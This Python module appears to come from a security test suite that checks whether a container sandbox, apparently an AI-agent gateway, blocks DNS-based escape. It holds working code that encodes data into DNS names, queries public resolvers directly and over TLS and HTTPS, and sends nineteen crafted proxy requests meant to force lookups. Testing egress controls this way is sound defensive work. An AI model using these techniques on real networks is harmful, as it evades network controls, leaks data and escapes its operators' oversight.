"""DNS techniques: direct queries, and names that the proxy might look up. The name server's log is the evidence."""

from __future__ import annotations

import contextlib
import socket
import struct
from collections.abc import Iterator
from pathlib import Path

from tests.security.inside.core import ENFORCED, PLACES, Attack, Try, technique
from tests.security.inside.sockets import PATIENCE, ask, connect, connected, reached, tcp

TYPES = {"A": 1, "NS": 2, "PTR": 12, "TXT": 16, "AAAA": 28, "SRV": 33, "HTTPS": 65, "ANY": 255}
RESOLVERS = ("8.8.8.8", "1.1.1.1", "9.9.9.9")
DOH = ("dns.google", "cloudflare-dns.com", "dns.quad9.net")


def query(name: str, kind: int = 1) -> bytes:
    """Return a DNS query (RFC 1035, section 4.1)."""
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack("!HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", kind, 1)


def _answered(answer: bytes) -> str:
    """Return evidence if a DNS response contains records. For other queries, the name server's log is the evidence."""
    if len(answer) < 12:
        return ""
    flags, answers = struct.unpack("!2xH2xH4x", answer[:12])
    return f"{answers} records" if answers and not flags & 15 else ""


def over_udp(server: str, port: int, data: bytes) -> str:
    """Send a DNS query over UDP. Return evidence of a response."""
    with socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(PATIENCE)
        sock.connect((server, port))
        sock.send(data)
        with contextlib.suppress(TimeoutError):
            return _answered(sock.recv(4096))
        return ""


def over_tcp(server: str, port: int, data: bytes) -> str:
    """Send a DNS query over TCP. Return evidence. An open connection without a response also counts as evidence."""
    with socket.create_connection((server, port), PATIENCE) as sock:
        sock.sendall(struct.pack("!H", len(data)) + data)
        return _answered(sock.recv(4096)[2:]) or "connected"


@technique(PLACES)
def resolver_of_our_own(attack: Attack) -> Iterator[Try]:
    """Query external name servers directly over UDP and TCP."""
    for server in (attack.knowledge.resolver, *RESOLVERS):
        data = query(f"direct.{attack.denied}")
        yield attack.tries(f"UDP {server}", lambda server=server, data=data: over_udp(server, 53, data))
        yield attack.tries(f"TCP {server}", lambda server=server, data=data: over_tcp(server, 53, data))


@technique(PLACES)
def resolver_that_is_configured(attack: Attack) -> Iterator[Try]:
    """Query the configured name servers of the container, and Docker's, for external names that contain data."""
    servers = []
    with contextlib.suppress(OSError), Path("/etc/resolv.conf").open() as file:
        servers = [line.split()[1] for line in file if line.startswith("nameserver")]
    for server in dict.fromkeys((*servers, "127.0.0.11")):
        for kind, number in TYPES.items():
            data = query(f"{kind.lower()}.{attack.denied}", number)
            yield attack.tries(f"{kind} of {server}", lambda server=server, data=data: over_udp(server, 53, data))
        data = query(f"tcp.{attack.denied}")
        yield attack.tries(
            f"TCP to {server}", lambda server=server, data=data: over_tcp(server, 53, data).replace("connected", "")
        )
    yield attack.tries("getaddrinfo", lambda: str(socket.getaddrinfo(f"libc.{attack.denied}", 443)[:1]))


@technique()
def resolvers_of_hosts(attack: Attack) -> Iterator[Try]:
    """Query name servers that the gateway or a host may run."""
    for server in (attack.knowledge.proxy[0], *attack.knowledge.hosts):
        data = query(f"host.{attack.denied}")
        yield attack.tries(f"UDP {server}", lambda server=server, data=data: over_udp(server, 53, data))


@technique(PLACES)
def dns_over_tls(attack: Attack) -> Iterator[Try]:
    """Send DNS queries over TCP and UDP to port 853, the port of DNS over TLS and DNS over QUIC."""
    for server in (attack.knowledge.canary, attack.knowledge.resolver, *RESOLVERS):
        yield attack.tries(f"TCP {server}", lambda server=server: over_tcp(server, 853, query(attack.denied)))
        yield attack.tries(f"UDP {server}", lambda server=server: over_udp(server, 853, query(attack.denied)))


@technique(("sandbox", "build", "neighbour"))
def dns_over_https(attack: Attack) -> Iterator[Try]:
    """Use public DNS-over-HTTPS resolvers through the proxy, by name and by address."""
    for host in (*DOH, *RESOLVERS, attack.knowledge.resolver):
        yield attack.tries(f"CONNECT {host}:443", lambda host=host: _tunnel(attack, f"{host}:443"))
        target = f"http://{host}/dns-query?name={attack.denied}"
        request = f"GET {target} HTTP/1.1\r\nHost: {host}\r\naccept: application/dns-json\r\n\r\n".encode()
        yield attack.tries(target, lambda request=request: reached(ask(attack.knowledge.proxy, request)))


def _tunnel(attack: Attack, target: str) -> str:
    with connected(attack.knowledge.proxy) as sock:
        return "the tunnel was opened" if connect(sock, target) == 200 else ""


@technique(ENFORCED)
def tunnel_through_lookups(attack: Attack) -> Iterator[Try]:
    """Request names that contain data, in every form that the proxy accepts.

    The proxy may resolve only allowed names.
    """
    knowledge = attack.knowledge
    forms = (
        "CONNECT {n}:443 HTTP/1.1\r\nHost: {n}:443\r\n\r\n",
        "CONNECT {n}:80 HTTP/1.1\r\nHost: {n}:80\r\n\r\n",
        "CONNECT {n}:53 HTTP/1.0\r\n\r\n",
        "CONNECT {n}.:443 HTTP/1.1\r\nHost: {n}.:443\r\n\r\n",
        "GET http://{n}/ HTTP/1.1\r\nHost: {n}\r\n\r\n",
        "GET http://{n}./ HTTP/1.1\r\nHost: {n}.\r\n\r\n",
        "GET http://{n}:8080/ HTTP/1.1\r\nHost: {n}:8080\r\n\r\n",
        "GET http://u:p@{n}/ HTTP/1.1\r\nHost: {n}\r\n\r\n",
        "GET https://{n}/ HTTP/1.1\r\nHost: {n}\r\n\r\n",
        "GET ftp://{n}/ HTTP/1.1\r\nHost: {n}\r\n\r\n",
        "GET / HTTP/1.1\r\nHost: {n}\r\n\r\n",
        "GET //{n}/ HTTP/1.1\r\nHost: {n}\r\n\r\n",
        "HEAD http://{n}/ HTTP/1.0\r\n\r\n",
        "POST http://{n}/ HTTP/1.1\r\nHost: {n}\r\nExpect: 100-continue\r\nContent-Length: 5\r\n\r\n",
        "GET http://{n}/ HTTP/1.1\r\nHost: {n}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n",
        "GET http://{a}/ HTTP/1.1\r\nHost: {n}\r\n\r\n",
        "GET http://{n}/ HTTP/1.1\r\nHost: {a}\r\n\r\n",
        "CONNECT {a}:443 HTTP/1.1\r\nHost: {n}:443\r\n\r\n",
        "GET http://{a}/ HTTP/1.1\r\nHost: {a}\r\nX-Forwarded-Host: {n}\r\nForwarded: host={n}\r\n\r\n",
    )
    for number, form in enumerate(forms):
        request = form.format(n=f"form{number}.{attack.denied}", a=knowledge.allowed or "www.example.org").encode()
        yield attack.tries(form.split("\r")[0], lambda request=request: _asked(attack, request))


def _asked(attack: Attack, request: bytes) -> str:
    ask(attack.knowledge.proxy, request)
    return ""  # The name server's log shows whether the proxy looked up the name.


@technique(ENFORCED)
def names_of_containers(attack: Attack) -> Iterator[Try]:
    """Connect to names that resolve only within Docker: the gateway, the proxy and the host."""
    for name in ("openclaw-gateway", "openclaw-proxy", "host.docker.internal", "gateway.docker.internal", "vps1"):
        yield attack.tries(name, lambda name=name: tcp(name, 18789))
